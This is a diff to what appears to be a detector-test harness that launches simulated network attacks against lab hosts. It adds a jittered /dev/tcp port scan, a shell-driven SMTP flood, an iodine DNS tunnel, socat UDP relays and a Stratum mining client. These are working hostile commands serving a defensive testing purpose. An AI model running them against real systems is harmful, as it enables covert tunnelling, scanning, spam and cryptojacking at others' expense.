@@ -3,7 +3,7 @@
 import random
 
 from harness import wait_until
-from live_field import FAR, IPERF, SINK, WEB, port_of_run
+from live_field import ECHO, FAR, IPERF, POOL, SMTP, WEB, port_of_run
 from sshd_host import PORT
 
 UPLOAD = "import socket,sys\ns=socket.create_connection((sys.argv[1],9100))\nb=b'x'*1000000\nfor _ in range(int(sys.argv[2])): s.sendall(b)\n"
@@ -79,6 +79,14 @@ while True:
             far[address].connect((address.decode(), 9300))
         far[address].send(payload)
 """
+UDP_SENDER = """import socket, sys
+sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+sock.settimeout(0.2)
+for n in range(200):
+    sock.sendto(b"x" * 1000, (sys.argv[1], int(sys.argv[2])))
+    try: sock.recv(2048)
+    except TimeoutError: pass
+"""
 UDP_CLIENT = """import socket, sys
 sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 sock.settimeout(0.2)
@@ -86,6 +94,18 @@ for n in range(1400):
     sock.sendto(sys.argv[3 + n % (len(sys.argv) - 3)].encode() + b"|" + b"x" * 1000, (sys.argv[1], int(sys.argv[2])))
     try: sock.recv(2048)
     except TimeoutError: pass
+"""
+MINER = """import json, random, socket, sys, time
+pool = socket.create_connection((sys.argv[1], int(sys.argv[2]))).makefile("rw")
+def say(number, method, *parameters):
+    pool.write(json.dumps({"id": number, "method": method, "params": parameters}) + "\\n")
+    pool.flush()
+    pool.readline()
+say(1, "mining.subscribe", "miner/1.0")
+say(2, "mining.authorize", "wallet.rig", "x")
+for n in range(8):
+    say(3 + n, "mining.submit", "wallet.rig", str(n), "00000001", "5f5e1000", "%08x" % random.getrandbits(32))
+    time.sleep(random.random())
 """
 
 
@@ -108,6 +128,16 @@ def socat(field):
     for n in range(len(places)):
         field.listening(port + n, daemon)
     field.fetch(range(port, port + len(places)))
+    return daemon
+
+
+def socat_udp(field):
+    """A tunnel of datagrams to each of seven places."""
+    port, places = port_of_run(), random.sample(FAR[:20], 7)
+    daemon = field.login("".join(f"socat -T 5 UDP4-LISTEN:{port + n},fork,reuseaddr UDP4:{a}:{ECHO} & " for n, a in enumerate(places)) + "wait")
+    for n in range(len(places)):
+        field.listening(port + n, daemon, "u")
+        field.outside.run("python3", "-c", UDP_SENDER, field.inside.v4, port + n)
     return daemon
 
 
@@ -138,7 +168,8 @@ def ssh_socks(field):
 
 
 def ssh_jump(field):
-    return field.rig.spawn(*field.host.command("alice", options=[*field.host.key(), "-W", f"{random.choice(FAR)}:22"]))
+    return field.rig.spawn(*field.outside.command("ssh", "-F", field.host.dir / "jump_config", "-J", f"alice@{field.inside.v4}:{PORT}", "-p", "22",
+                                                  f"root@{random.choice(FAR)}", "sleep 15"))
 
 
 def ssh_remote(field):
@@ -169,6 +200,25 @@ def masscan(f):
 
 def shell_scan(f):
     return f.login(f"for p in $(seq {random.randint(30, 60)} 400); do (exec 3<>/dev/tcp/192.0.2.1/$p) 2> /dev/null; sleep 0.0{random.randint(1, 9)}; done")
+
+
+def slow_scan(f):
+    """A probe every one to four seconds, ports in no order."""
+    return f.login(f"for p in $(shuf -n 18 -i 40-900); do (exec 3<>/dev/tcp/{random.choice(FAR)}/$p) 2> /dev/null; sleep $((RANDOM % 3 + 1)).$((RANDOM % 10)); done")
+
+
+def mail_by_shell(f):
+    return f.login(f"for a in {' '.join(random.sample(FAR, 20))}; do exec 3<>/dev/tcp/$a/{SMTP}; printf %020000d 1 >&3; exec 3>&-; done")
+
+
+def iodine(f):
+    """A real tunnel through queries, and pings through that."""
+    server = random.choice(FAR[43:])
+    password = f"pw{random.random()}"
+    f.rig.spawn(*f.outside.command("timeout", "60", "iodined", "-f", "-c", "-P", password, "-l", server, "10.53.0.1/24", "t1.example.org"))
+    wait_until("iodined's interface", lambda: "dns" in f.outside.run("ip", "-o", "link").stdout)
+    return f.login(f"mkdir -p /dev/net; [ -e /dev/net/tun ] || mknod /dev/net/tun c 10 200; timeout 40 iodine -f -r -P {password} {server} t1.example.org > /dev/null 2>&1 & "
+                   "for i in $(seq 20); do ping -q -c 20 -i 0.05 -s 800 -W 1 10.53.0.1 > /dev/null 2>&1; sleep 0.5; done; wait")
 
 
 def calls_by_curl(f):
@@ -206,6 +256,7 @@ ATTACKS = {
         f"cp /usr/bin/nmap {f.rig.dir}/.x; exec {f.rig.dir}/.x --datadir /usr/share/nmap -n -Pn -sT --max-retries 0 -p 1-300 192.0.2.1 > /dev/null"), 20),
     "scan: a fork a connection": ("scan", "bash", "bash", shell_scan, 30),
     "scan: masscan": ("scan", "masscan", "masscan", masscan, 20),
+    "scan: slow, with jitter": ("scan", "bash", "bash", slow_scan, 75),
     "flood: SYN": ("flood", "hping3", "hping3", hping("-S -p 80"), 15),
     "flood: UDP": ("flood", "hping3", "hping3", hping("--udp -p 5300 -d 100"), 15),
     "flood: ICMP": ("flood", "hping3", "hping3", hping("--icmp"), 15),
@@ -218,6 +269,7 @@ ATTACKS = {
     "relay: squid": ("relay", "squid", "squid", proxy("squid -N -f {config}", "http", SQUID), 30),
     "relay: tinyproxy": ("relay", "tinyproxy", "tinyproxy", proxy("tinyproxy -d -c {config} > /dev/null", "http", TINY), 30),
     "relay: socat": ("relay", "socat", "socat", socat, 30),
+    "relay: socat, UDP": ("relay", "socat", "socat", socat_udp, 30),
     "relay: over a pipe": ("relay", "python3", "python3", own_relay(LEGS), 30),
     "relay: padded by a tenth": ("relay", "python3", "python3", own_relay(PADDED, 10), 30),
     "relay: UDP": ("relay", "python3", "python3", udp_relay, 30),
@@ -228,5 +280,8 @@ ATTACKS = {
     "beacon": ("beacon", "python3", "python3", lambda f: f.python(CALLS, random.choice((0.02, 0.1, 0.2))), 60),
     "beacon: curl in a shell": ("beacon", "curl", "curl", calls_by_curl, 60),
     "DNS tunnel": ("dns-tunnel", "python3", "python3", lambda f: f.python(TUNNEL, random.choice(FAR[:20])), 40),
+    "DNS tunnel: iodine": ("dns-tunnel", "iodine", "iodine", iodine, 40),
+    "mining: Stratum": ("mining", "python3", "python3", lambda f: f.python(MINER, random.choice(FAR), POOL), 30),
+    "spam: by a shell": ("spam", "bash", "bash", mail_by_shell, 30),
     "spam": ("spam", "python3", "python3", lambda f: f.python(MAIL, random.choice((0.05, 0.2)), *random.sample(FAR, 14)), 30),
 }
